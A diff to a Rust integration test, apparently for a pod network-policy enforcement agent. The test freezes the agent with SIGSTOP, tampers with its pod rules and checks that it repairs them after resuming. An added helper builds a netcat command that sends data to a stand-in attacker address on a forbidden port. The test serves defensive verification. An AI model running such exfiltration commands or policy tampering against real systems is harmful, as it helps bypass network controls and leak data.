@@ -7,6 +7,7 @@ use std::process::Command;
 use std::time::{Duration, Instant};
 
 use anyhow::{Context, Result, ensure};
+use nix::sys::signal::Signal;
 use serde_json::Value;
 use weir_tests::agent::Agent;
 use weir_tests::exec::{self, Output};
@@ -55,6 +56,10 @@ const ATTACKS: [Attack; 9] = [
     attack("allow", "allow", 1),
     attack("table", "table", 1),
 ];
+
+/// What opens the pod as long as nobody puts it right; in the order that it is done in.
+const OPENINGS: [&[&str]; 5] =
+    [&["state"], &["networks"], &["allow"], &["table"], &["wire-detach", "detach"]];
 
 /// Those that put a program of their own in the place of ours.
 const REPLACEMENTS: [Attack; 2] =
@@ -180,6 +185,11 @@ impl Tampered {
     }
 }
 
+/// Sends to the attacker.
+fn leak() -> String {
+    format!("echo leak | nc -w 1 {} {FORBIDDEN_PORT}; true", addresses::ATTACKER.v4)
+}
+
 fn count(record: &Event) -> u64 {
     record.number("/count")
 }
@@ -208,6 +218,31 @@ fn what_a_privileged_job_changes_is_put_right_within_a_second() -> Result<()> {
         let remove = format!("rm {PINS}/weir/*/pods/{}/*", tampered.pod.id());
         tampered.job.exec(&["sh", "-c", &remove])?.expect_code(0).map(drop)
     })?;
+    tampered.end()
+}
+
+#[test]
+fn what_a_job_opens_stays_open_only_while_the_agent_cannot_look() -> Result<()> {
+    let tampered = Tampered::new(true)?;
+    let has_tcx = has_tcx(&tampered)?;
+    for acts in OPENINGS.iter().filter(|acts| has_tcx || !acts.contains(&"wire-detach")) {
+        let attacks = ATTACKS.iter().filter(|attack| acts.contains(&attack.act));
+        let before: Vec<_> = attacks
+            .map(|attack| anyhow::Ok((attack, tampered.repairs(attack.what)?)))
+            .collect::<Result<_>>()?;
+        tampered.watch.take()?;
+        tampered.agent.process().signal(Signal::SIGSTOP)?;
+        let opened = acts.iter().try_for_each(|act| tampered.act(act).map(drop));
+        let sent = tampered.world.run(&tampered.pod, &leak());
+        tampered.agent.process().signal(Signal::SIGCONT)?;
+        opened.and(sent.map(drop)).with_context(|| format!("after {acts:?}"))?;
+        let seen = tampered.watch.take()?;
+        ensure!(seen.tcp.packets > 0, "{acts:?} open nothing: the attacker saw {seen:?}");
+        for (attack, before) in before {
+            tampered.repaired(attack.what, before, attack.changes)?;
+        }
+        tampered.holds().with_context(|| format!("after {acts:?}"))?;
+    }
     tampered.end()
 }
 
